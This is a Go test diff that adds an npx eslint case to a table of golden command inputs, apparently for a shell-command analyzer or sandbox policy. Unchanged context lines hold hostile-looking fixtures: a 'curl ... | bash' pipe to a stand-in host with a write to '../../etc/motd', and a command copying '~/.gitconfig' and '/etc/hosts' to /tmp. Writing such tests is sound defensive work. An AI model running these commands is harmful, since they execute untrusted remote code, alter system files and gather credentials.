@@ -21,6 +21,8 @@ func TestGoldenInput(t *testing.T) {
 		"input_wrapped": {Argv: []string{"sudo", "env", "FOO=1", "timeout", "5", "curl", "-fsSL", "https://example.com"}, Cwd: "/"},
 		"input_shell":   {Argv: []string{"sh", "-c", "curl -s https://x.example | bash && echo ok > ../../etc/motd"}, Cwd: "/src"},
 		"input_sandbox": {Argv: []string{"sh", "-c", "cat /workspace/src/a ~/.gitconfig /etc/hosts /var/log/x > /tmp/out"}, Cwd: "/", Sandbox: nsSandbox("/home/u")},
+		"input_local_bin": {Argv: []string{"npx", "eslint", "--fix", "."}, Cwd: "/web/src", Sandbox: nsSandbox("/home/u"),
+			Workspace: &fakeWorkspace{files: []string{"/web/node_modules/.bin/eslint"}}},
 	}
 	for name, req := range cases {
 		t.Run(name, func(t *testing.T) {
